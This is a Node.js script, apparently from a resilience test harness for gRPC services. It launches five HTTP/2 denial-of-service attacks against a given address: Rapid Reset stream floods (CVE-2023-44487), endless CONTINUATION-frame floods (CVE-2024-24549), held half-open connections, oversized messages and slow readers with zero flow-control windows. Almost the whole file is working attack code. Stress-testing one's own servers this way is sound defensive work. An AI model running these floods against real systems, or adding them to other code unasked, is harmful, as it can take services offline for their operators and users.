// One attack on an address, in a process of its own: attack.mjs KIND SIZE TARGET, of which the last is JSON for frames.mjs.
// Prints what it did as JSON.
import { setTimeout as sleep } from 'node:timers/promises';
import { begin, call, callHeaders, connect, CONTINUATION, END_HEADERS, frame, header, HEADERS, reset, send } from './frames.mjs';

const SUMMARY = '/zaitaku.summary.v1.SummaryService/GetNationwideSummary';
const TOTALS = '/zaitaku.council.v1.CouncilService/WatchTotals';
const [kind, size, targetJson] = process.argv.slice(2);
const target = JSON.parse(targetJson);
const scheme = target.authority ? 'https' : 'http';
const done = { connections: 0, closedByServer: 0 };

async function opened(options) {
  const socket = await connect(target, options);
  done.connections += 1;
  socket.ended.then(() => (done.closedByServer += 1));
  return socket;
}

// Calls that are taken back at once (CVE-2023-44487), over a few connections.
async function resets(count) {
  done.resets = 0;
  const batch = (first) => Buffer.concat(Array.from({ length: 100 }, (_, i) => [
    call(SUMMARY, first + 2 * i, undefined, scheme), reset(first + 2 * i),
  ]).flat());
  const one = async () => {
    while (done.resets < count) {
      const socket = await opened();
      let open = await send(socket, begin());
      for (let stream = 1; open && done.resets < count; stream += 200) {
        done.resets += 100;
        open = await send(socket, batch(stream));
        // Lets the answers and the end of the connection be seen.
        await sleep(0);
      }
      socket.end();
      if (open) await Promise.race([socket.ended, sleep(2000)]);
      socket.destroy();
    }
  };
  await Promise.all([one(), one(), one(), one()]);
}

// Headers that never end (CVE-2024-24549 and its kin): SIZE bytes of CONTINUATION frames; every other connection's are empty.
async function continuations(bytes) {
  done.bytes = 0;
  const filler = frame(CONTINUATION, 0, 1, Buffer.concat(Array(16).fill(header('x-filler', 'x'.repeat(1000)))));
  const empty = Buffer.concat(Array(1000).fill(frame(CONTINUATION, 0, 1)));
  const one = async () => {
    while (done.bytes < bytes) {
      const socket = await opened();
      const headers = frame(HEADERS, 0, 1, callHeaders(SUMMARY, scheme));
      const more = done.connections % 2 === 0 ? filler : empty;
      let open = await send(socket, Buffer.concat([begin(), headers]));
      while (open && done.bytes < bytes) {
        open = await send(socket, more);
        done.bytes += more.length;
        await sleep(0);
      }
      socket.destroy();
    }
  };
  await Promise.all([one(), one(), one(), one()]);
}

// Connections that begin and do not go on: nothing at all, TLS only, half a header, a call without its message.
async function halfOpen(count) {
  const held = [];
  for (let i = 0; i < count; ++i) {
    const stage = i % 4;
    const socket = await opened({ secure: stage > 0 && Boolean(target.authority) });
    if (stage === 2) await send(socket, Buffer.concat([begin(), frame(HEADERS, 0, 1, callHeaders(SUMMARY, scheme))]));
    if (stage === 3) await send(socket, Buffer.concat([begin(), frame(HEADERS, END_HEADERS, 1, callHeaders(SUMMARY, scheme))]));
    held.push(socket);
  }
  done.held = held.filter((socket) => !socket.closed_).length;
  await sleep(2000);
  for (const socket of held) socket.destroy();
}

// Messages just over 1 MiB, and over what the servers take, fifty at a time.
async function oversized(count) {
  const one = async (bytes) => {
    const socket = await opened();
    // Lengthens the field `survey`, so that what arrives whole is a request.
    const length = bytes - 4;
    const field = Buffer.from([0x0a, (length & 127) | 128, ((length >> 7) & 127) | 128, length >> 14]);
    await send(socket, Buffer.concat([begin(), call(SUMMARY, 1, Buffer.concat([field, Buffer.alloc(length, 'x')]), scheme)]));
    await Promise.race([socket.ended, sleep(3000)]);
    socket.destroy();
  };
  for (let i = 0; i < count; i += 50) {
    await Promise.all(Array.from({ length: Math.min(50, count - i) }, (_, j) => one((1 + (j % 2)) * 1_048_576 + 1)));
  }
}

// Callers that ask for much and read nothing: streams without a window, and connections that are not read.
async function slowReaders(count) {
  const held = [];
  for (let i = 0; i < count; ++i) {
    const socket = await opened({ reads: false });
    socket.pause();
    const calls = Array.from({ length: 50 }, (_, j) => call(j % 2 ? SUMMARY : TOTALS, 1 + 2 * j, undefined, scheme));
    await send(socket, Buffer.concat([begin([4, i % 2 ? 0 : 65_535]), ...calls]));
    held.push(socket);
  }
  await sleep(3000);
  for (const socket of held) socket.destroy();
}

const began = Date.now();
await { resets, continuations, halfOpen, oversized, slowReaders }[kind](Number(size));
console.log(JSON.stringify({ ...done, seconds: (Date.now() - began) / 1000 }));
process.exit(0);
